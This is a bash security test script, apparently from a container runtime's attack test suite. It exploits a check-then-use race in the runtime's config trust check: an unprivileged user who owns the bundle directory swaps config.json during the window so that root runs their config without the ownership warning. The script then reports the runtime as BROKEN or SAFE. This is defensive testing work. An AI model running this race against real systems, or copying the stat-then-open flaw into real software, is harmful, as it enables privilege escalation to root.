#!/bin/bash
# Attack: bundle_trust.c judges config.json with stat() on its path, then
# the loader opens the path again (container.c bw_bundle_load): a check
# then use. It also never looks at who owns the bundle directory: one
# that another user owns (mode 0755) passes. That user keeps a root-owned
# config.json (no warning) and swaps in their own file (renameat2
# RENAME_EXCHANGE in a loop) between the stat and the open: root runs the
# other user's config with neither refusal nor the "belongs to uid N"
# warning the check gives for a config another user owns.
# Invariant broken: as root, a config another user can change is refused
# or named in a warning (README/docs: "a config another user owns runs
# with a warning naming the owner").
# Expected safe outcome: every run either uses the root-owned config or
#   warns; better: the file is judged on the fd that is read (fstat), and
#   a bundle directory (or ancestor) another user owns is judged too.
# Observed (2026-12-07): within a few tries a run prints the other user's
#   marker with no warning.
set -u
source "$(dirname "$0")/lib.sh"
setup_bundle
FLIP=$(mktemp /tmp/bw-atk-flip.XXXXXX)
FP=""
cleanup() { [[ -n $FP ]] && kill "$FP" 2>/dev/null; wait 2>/dev/null; teardown_bundle; rm -f "$FLIP"; }
trap cleanup EXIT
cc -O2 -o "$FLIP" "$ATTACKS_DIR/flip.c" && chmod 755 "$FLIP"
U=65534
config_edit '.process.args=["sh","-c","echo ROOTS-OWN"]'
jq '.process.args=["sh","-c","echo OTHER-USERS-CONFIG"]' "$BUNDLE/config.json" >"$BUNDLE/other.json"
chown "$U:$U" "$BUNDLE/other.json" "$BUNDLE"   # the bundle directory is U's, mode 0755
chmod 644 "$BUNDLE/other.json" "$BUNDLE/config.json"
ls -la "$BUNDLE"
setpriv --reuid=$U --regid=$U --clear-groups "$FLIP" "$BUNDLE" config.json other.json 30 &
FP=$!
hit=""
for i in $(seq 1 40); do
  timeout 20 "$BULWARK" --root "$BW_ROOT" run --bundle "$BUNDLE" sw$$-"$i" </dev/null >"$BW_ROOT/out" 2>&1 3>&-
  if grep -q OTHER-USERS-CONFIG "$BW_ROOT/out" && ! grep -q "belongs to uid" "$BW_ROOT/out"; then
    hit="try $i: $(tr '\n' ' ' <"$BW_ROOT/out")"; break
  fi
done
kill "$FP" 2>/dev/null; wait "$FP" 2>/dev/null; FP=""
chown 0:0 "$BUNDLE"
if [[ -n $hit ]]; then
  verdict BROKEN "root ran uid $U's config without refusal or warning ($hit)"
else
  verdict SAFE "no swapped config ran unwarned in 40 tries"
fi
